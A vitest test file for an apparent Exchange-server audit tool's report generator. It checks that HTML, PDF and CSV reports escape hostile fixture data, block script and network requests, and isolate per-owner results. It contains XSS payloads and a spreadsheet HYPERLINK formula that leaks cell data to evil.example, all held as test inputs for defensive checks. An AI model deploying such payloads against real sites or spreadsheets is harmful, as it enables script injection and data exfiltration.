// Renders the mixed fixture run (with its hostile record) in real headless Chromium — launched
// once for the file — and checks what a reader gets: counts and verdicts in the PDF text, payloads
// shown as text and never executed, no request leaving the page, per-owner isolation, the CSV.
import { execFileSync } from 'node:child_process';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CSV_COLUMNS, launchFirstBrowser, type PdfRenderer } from '../src/report/index.js';
import { writeReports, type ReportFiles } from '../src/outputs/write-reports.js';
import type { ResultRecord } from '../src/core/result-schema.js';
import {
  escapeHtml,
  identityOf,
  ipPattern,
  oneLine,
  parseCsv,
  pdfText,
  squash,
} from './fixtures/report/helpers.js';
import { MIXED_RUN, mixedRecords } from './fixtures/report/synthetic-run.js';

const NOW = new Date('2026-11-27T09:00:00Z');
const LOOPBACK = '127.20.0.1';
const PORT = 18420;

let dir: string;
let renderer: PdfRenderer;
let files: ReportFiles;
let html: string;
let text: string;
const records: ResultRecord[] = mixedRecords();
const hostile = records.find((r) => r.ip === '203.0.113.66');

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'owa-audit-report-render-'));
  cpSync(MIXED_RUN, dir, { recursive: true });
  const launched = await launchFirstBrowser();
  if ('problem' in launched) throw new Error(`these tests need a browser: ${launched.problem}`);
  renderer = launched.renderer;
  files = await writeReports(dir, {
    formats: ['html', 'pdf', 'csv'],
    perOwner: true,
    browser: renderer,
    now: NOW,
  });
  html = readFileSync(join(dir, 'report.html'), 'utf8');
  text = pdfText(join(dir, 'report.pdf'));
}, 120_000);

afterAll(async () => {
  await renderer.close();
  rmSync(dir, { recursive: true, force: true });
});

describe('the main report', () => {
  it('writes every requested file', () => {
    expect(files.html).toBe(join(dir, 'report.html'));
    expect(files.pdf).toBe(join(dir, 'report.pdf'));
    expect(files.csv).toBe(join(dir, 'results.csv'));
    expect(files.endpoints).toBe(26);
    expect(files.skippedLines).toBe(0);
  });

  it('opens with the authorisation, the run and the data, with the staleness warning', () => {
    const t = oneLine(text);
    for (const s of [
      'ACME National CERT',
      'CERT-2026-0412',
      'cert@acme-cert.example',
      '2026-12-31',
      '2026-11-27 01:10 UTC',
      '2026-11-27 01:14 UTC',
      '4 min 38 s',
      'owa-audit 0.1.0',
    ]) {
      expect(t).toContain(s);
    }
    expect(t).toContain('The vulnerability data is 99 days old (as of 2026-08-20)');
    expect(t.indexOf('ACME National CERT')).toBeLessThan(t.indexOf('Summary'));
  });

  it('states the counts by patch level, product, support and owner', () => {
    const t = oneLine(text);
    expect(t).toContain(
      '12 Exchange servers (12 endpoints) found among 26 endpoints on 26 servers. 6 miss fixes for vulnerabilities known to be exploited in the wild. 9 run versions out of support.',
    );
    // patch level × certainty: vulnerable 4 confirmed + 2 possible, outdated 2 + 1, current 2 + 0, unknown 0 + 1
    expect(t).toMatch(/VULNERABLE 4 2 6 OUTDATED 2 1 3 CURRENT 2 0 2 UNKNOWN 0 1 1/);
    expect(t).toContain('Exchange Server 2016 3 0 3 3');
    expect(t).toContain('Exchange Server SE 3 3 0 0');
    expect(squash(text)).toContain('ContosoHealthit-security@contoso-health.example6333000');
    expect(t).toContain('No owner in the scan file 7');
    expect(t).toContain('7 endpoints matched no owner of the scan file and appear only in this report');
  });

  it('lists actions most urgent first and gives each host its verdict in plain words', () => {
    const t = oneLine(text);
    const kev = t.indexOf('Known-exploited vulnerabilities — patch immediately');
    const eol = t.indexOf('Out of support — no more security fixes');
    const outdated = t.indexOf('Behind on security updates');
    expect(kev).toBeGreaterThan(0);
    expect(eol).toBeGreaterThan(kev);
    expect(outdated).toBeGreaterThan(eol);
    // the most severe first: 11 confirmed KEV CVEs on Exchange 2013 CU23
    expect(t.slice(kev, eol)).toMatch(
      /^[^#]*# SERVER · OWNER VERSION VERDICT FIRST STEP 1 webmail\.contoso-health\.example/,
    );
    expect(t).toMatch(
      /webmail\.contoso-health\.example https:\/\/203\.0\.113\.20:443 · owner Contoso Health · checked [^·]+ VULNERABLE CONFIRMED OUT OF SUPPORT 11 KEV This Exchange 2013 server lacks fixes/,
    );
    expect(t).toMatch(
      /mail2\.fabrikam\.example https:\/\/192\.0\.2\.31:443 · owner Fabrikam Ltd · checked [^·]+ OUTDATED CONFIRMED/,
    );
    expect(t).toMatch(
      /owa\.fabrikam\.example https:\/\/192\.0\.2\.32:443 · owner Fabrikam Ltd · checked [^·]+ UNKNOWN POSSIBLE/,
    );
    // a possible verdict says what to check on the server
    expect(t).toMatch(
      /203\.0\.113\.21 https:\/\/203\.0\.113\.21:443[\s\S]*?CHECK ON THE SERVER[^.]*ExSetup\.exe/,
    );
    // updates to install, with Microsoft's page
    expect(t).toContain('support.microsoft.com/help/');
    // endpoints that could not be read, with the meaning of their error code
    expect(t).toContain('The address answered but refused a connection on this port');
    expect(t).toContain('Every address of this target lies outside the authorised scope');
    // counts read as English: "1 KEV of 1 CVE", never "1 CVEs"
    expect(t).toMatch(/\d+ KEV of \d+ CVEs?/);
    expect(t).not.toMatch(/\b1 CVEs\b/);
  });

  it('shows every hostile string as literal text in the PDF', () => {
    const t = squash(text);
    expect(hostile).toBeDefined();
    expect(t).toContain(
      squash(
        '<script>document.title="PWNED-SCRIPT"</script></style><style>body{display:none}</style>{{x}}{{{x}}}',
      ),
    );
    expect(t).toContain(squash('15.1.2507.17"><img src=x onerror="document.title=\'PWNED-IMG\''));
    expect(t).toContain(
      squash('CN=<script>document.title="PWNED-TLS"</script>, O=</style><h1>INJECTED</h1>'),
    );
    expect(t).toContain(squash('=HYPERLINK("http://evil.example/?leak="&A1,"click")'));
    expect(t).toContain(squash("evil-owa.contoso-health.example\"><svg/onload=document.title='PWNED-HOST'>"));
    expect(t).toContain(squash('\\x00\\x07\\x1b[31mRED\\x1b[0m \\u202egnp.exe\\u202c'));
    expect(t).toContain('(4718morecharacters)');
    expect(t).toContain(squash('Parse Error: Expected HTTP/ <script>document.title="PWNED-ERR"</script>'));
  });

  it('escapes every hostile string in the HTML and carries the CSP', () => {
    expect(html).toContain(
      `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; form-action 'none'">`,
    );
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/<img/i);
    expect(html).not.toMatch(/<svg\/onload|<h1>INJECTED|<style>body/i);
    expect(html.match(/<\/style>/g)).toHaveLength(1);
    expect(html).toContain('&lt;script&gt;document.title&#x3D;&quot;PWNED-SCRIPT&quot;&lt;/script&gt;');
    expect(html).toContain('{{x}}{{{x}}}');
    // nothing from a scanned server is a link: only in-page anchors and Microsoft/CISA over https
    const hrefs = [...html.matchAll(/href="([^"]*)"/g)].map((m) => m[1] ?? '');
    expect(hrefs.length).toBeGreaterThan(10);
    for (const h of hrefs)
      expect(h).toMatch(/^#[gh]-\d+$|^https:\/\/([a-z]+\.)*(microsoft\.com|cisa\.gov)\//);
  });
});

describe('the running header and footer', () => {
  /** Each page's text (pdftotext -layout, one page at a time), and the page count. */
  function pages(pdf: string): string[] {
    const count = Number(/^Pages:\s+(\d+)$/m.exec(execFileSync('pdfinfo', [pdf], { encoding: 'utf8' }))?.[1]);
    expect(count).toBeGreaterThan(1);
    return Array.from({ length: count }, (_, i) =>
      execFileSync(
        'pdftotext',
        ['-layout', '-f', String(i + 1), '-l', String(i + 1), '-enc', 'UTF-8', pdf, '-'],
        {
          encoding: 'utf8',
        },
      ),
    );
  }

  it('prints on every page, once: the words, CONFIDENTIAL, and "Page N of M" counted by the browser', () => {
    expect(renderer.description).toMatch(/\/(\d+)\./);
    const all = pages(join(dir, 'report.pdf'));
    all.forEach((page, i) => {
      const lines = page.split('\n').filter((l) => l.trim() !== '');
      expect(oneLine(lines[0] ?? '')).toMatch(/^owa-audit · Exchange Server exposure report CONFIDENTIAL$/);
      expect(oneLine(lines.at(-1) ?? '').trim()).toBe(
        `Exchange Server exposure report Page ${i + 1} of ${all.length}`,
      );
      expect(page.split('CONFIDENTIAL').length, `page ${i + 1}: one header`).toBe(2);
    });
  });

  it("an owner's notification has its own words", () => {
    const contoso = files.owners.find((o) => o.owner === 'Contoso Health');
    const all = pages(contoso?.pdf ?? '');
    const lines = (all[0] ?? '').split('\n').filter((l) => l.trim() !== '');
    expect(oneLine(lines[0] ?? '')).toBe('owa-audit · Security notification CONFIDENTIAL');
    expect(oneLine(lines.at(-1) ?? '').trim()).toBe(
      `Security notification — Exchange servers Page 1 of ${all.length}`,
    );
  });
});

describe('with JavaScript switched on, the report still runs nothing', () => {
  async function titleAfterLoading(
    file: string,
  ): Promise<{ title: string; scripts: number; images: number; pwned: boolean; csp: string[] }> {
    const page = await renderer.browser.newPage();
    const csp: string[] = [];
    page.on('console', (m) => {
      if (m.text().includes('Content Security Policy')) csp.push(m.text());
    });
    try {
      await page.setRequestInterception(true);
      page.on(
        'request',
        (r) => void (r.isNavigationRequest() && r.url().startsWith('file:') ? r.continue() : r.abort()),
      );
      await page.goto(pathToFileURL(file).href, { waitUntil: 'load' });
      // A string expression: the test's TypeScript has no DOM types, the page has.
      const seen = (await page.evaluate(
        `({ title: document.title, scripts: document.querySelectorAll('script').length,
            images: document.querySelectorAll('img').length, pwned: document.querySelector('[data-pwned]') !== null })`,
      )) as { title: string; scripts: number; images: number; pwned: boolean };
      return { ...seen, csp };
    } finally {
      await page.close();
    }
  }

  it('the escaped payloads stay text: title unchanged, no script or img element', async () => {
    const r = await titleAfterLoading(join(dir, 'report.html'));
    expect(r.title).toBe('Exchange Server exposure report — acme-cert-constituency');
    expect(r.scripts).toBe(0);
    expect(r.images).toBe(0);
    expect(r.pwned).toBe(false);
  });

  it('the CSP blocks script that escaping had missed (and without the CSP it would run)', async () => {
    const inject = `<script>document.title='CSP-FAILED'</script><img src="data:," onerror="document.title='CSP-IMG-FAILED'">`;
    const withCsp = join(dir, 'injected.html');
    writeFileSync(withCsp, html.replace('<meta name="referrer"', `${inject}<meta name="referrer"`));
    const blocked = await titleAfterLoading(withCsp);
    expect(blocked.title).toBe('Exchange Server exposure report — acme-cert-constituency');
    expect(blocked.csp.length).toBeGreaterThan(0);

    const withoutCsp = join(dir, 'injected-no-csp.html');
    writeFileSync(
      withoutCsp,
      html
        .replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '')
        .replace('<meta name="referrer"', `${inject}<meta name="referrer"`),
    );
    const ran = await titleAfterLoading(withoutCsp);
    expect(ran.title).toMatch(/CSP-(IMG-)?FAILED/);
  });
});

describe('rendering makes no network request', () => {
  let server: Server;
  const hits: string[] = [];
  beforeAll(async () => {
    server = createServer((req, res) => {
      hits.push(req.url ?? '');
      res.end('x');
    });
    server.keepAliveTimeout = 100;
    await new Promise<void>((resolve) => server.listen(PORT, LOOPBACK, resolve));
  });
  afterAll(async () => {
    server.closeAllConnections();
    await new Promise<void>((resolve) => server.close(() => resolve()));
  });

  it('aborts every request but the document itself', async () => {
    const base = `http://${LOOPBACK}:${PORT}`;
    const page = join(dir, 'fetchy.html');
    writeFileSync(
      page,
      `<!DOCTYPE html><html><head><link rel="stylesheet" href="${base}/css"><link rel="prefetch" href="${base}/prefetch">` +
        `<style>@import url(${base}/import); body { background: url(${base}/bg); }</style></head>` +
        `<body><img src="${base}/img"><iframe src="${base}/frame"></iframe><object data="${base}/object"></object>` +
        `<script src="${base}/js"></script><p>x</p></body></html>`,
    );
    renderer.blockedRequests = [];
    await renderer.render(page, join(dir, 'fetchy.pdf'), { header: 'h', footer: 'f' });
    expect(hits).toEqual([]);
    expect(renderer.blockedRequests.some((u) => u.startsWith(base))).toBe(true);

    // Control: the same page in a page without interception does reach the server.
    const open = await renderer.browser.newPage();
    try {
      await open.goto(pathToFileURL(page).href, { waitUntil: 'load' });
    } finally {
      await open.close();
    }
    expect(hits.length).toBeGreaterThan(0);
  });

  it('the reports themselves try no request at all', async () => {
    renderer.blockedRequests = [];
    await renderer.render(join(dir, 'report.html'), join(dir, 'again.pdf'), { header: 'h', footer: 'f' });
    expect(renderer.blockedRequests).toEqual([]);
  });
});

describe('per-owner reports', () => {
  const owners = [...new Set(records.flatMap((r) => (r.owner === null ? [] : [r.owner.name])))];

  it('writes one HTML and one PDF per owner, under owners/', () => {
    expect(files.owners.map((o) => o.owner).sort()).toEqual([...owners].sort());
    for (const o of files.owners) {
      expect(o.html).toMatch(new RegExp(`^${dir}/owners/[a-z0-9-]+-[0-9a-f]{8}\\.html$`));
      expect(o.pdf).toBe(o.html?.replace(/\.html$/, '.pdf'));
    }
  });

  it("holds only that owner's endpoints: no other owner's host, IP or name, and nothing unowned", () => {
    for (const o of files.owners) {
      const ownHtml = readFileSync(o.html ?? '', 'utf8');
      const ownText = squash(pdfText(o.pdf ?? '')); // wrapped lines rejoined
      for (const r of records) {
        const { names, ip } = identityOf(r);
        const mine = r.owner?.name === o.owner;
        const say = (what: string) => `${o.owner} report ${mine ? 'lacks' : 'shows'} ${what}`;
        for (const n of names) {
          expect(ownHtml.includes(n), say(n)).toBe(mine);
          expect(ownText.includes(squash(n)), say(n)).toBe(mine);
        }
        if (ip !== null) {
          expect(ipPattern(ip).test(ownHtml), say(ip)).toBe(mine);
          expect(ipPattern(ip).test(ownText), say(ip)).toBe(mine);
        }
        if (r.owner !== null && !mine) {
          for (const needle of [r.owner.name, r.owner.contact ?? '']) {
            if (needle === '') continue;
            expect(ownHtml, say(needle)).not.toContain(escapeHtml(needle));
            expect(ownText, say(needle)).not.toContain(squash(needle));
          }
        }
      }
    }
  });

  it('reads as a notification: who scanned, why, what was found, whom to contact', () => {
    const contoso = files.owners.find((o) => o.owner === 'Contoso Health');
    const t = oneLine(pdfText(contoso?.pdf ?? ''));
    expect(t).toContain('Security notification: your Exchange servers For Contoso Health');
    expect(t).toContain('ACME National CERT checked the Microsoft Exchange servers');
    expect(t).toContain('reference CERT-2026-0412');
    expect(t).toContain('it did not log in, did not try passwords and did not exploit anything');
    expect(t).toContain('contact cert@acme-cert.example');
    expect(t).toContain(
      '3 Exchange servers (3 endpoints) found among 6 endpoints on 6 servers. 3 miss fixes for vulnerabilities known to be exploited in the wild.',
    );
    expect(t).not.toContain('By owner');
  });
});

describe('results.csv', () => {
  const rows = () => parseCsv(readFileSync(join(dir, 'results.csv'), 'utf8'));

  it('has the documented header and one row per endpoint, RFC 4180 well-formed', () => {
    const [header, ...data] = rows();
    expect(header).toEqual(CSV_COLUMNS.map((c) => c.name));
    expect(data).toHaveLength(26);
    for (const row of data) expect(row).toHaveLength(CSV_COLUMNS.length);
    const byIp = new Map(data.map((r) => [r[3], r]));
    const col = (name: string) => CSV_COLUMNS.findIndex((c) => c.name === name);
    const north = byIp.get('198.51.100.10');
    expect(north?.[col('status')]).toBe('exchange');
    expect(north?.[col('patch_level')]).toBe('vulnerable');
    expect(north?.[col('kev_cves')]).toContain('CVE-2022-41040');
    expect(north?.[col('owner')]).toBe('Northwind Traders');
    expect(byIp.get('198.51.100.13')?.[col('error_code')]).toBe('connection-refused');
  });

  it('defuses formula payloads in every cell', () => {
    const [, ...data] = rows();
    for (const row of data) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const col = (name: string) => CSV_COLUMNS.findIndex((c) => c.name === name);
    const evil = data.find((r) => r[3] === '203.0.113.66');
    expect(evil?.[col('tls_issuer')]).toBe(`'=HYPERLINK("http://evil.example/?leak="&A1,"click")`);
    expect(evil?.[col('host')]).toBe(
      `evil-owa.contoso-health.example"><svg/onload=document.title='PWNED-HOST'>`,
    );
  });
});
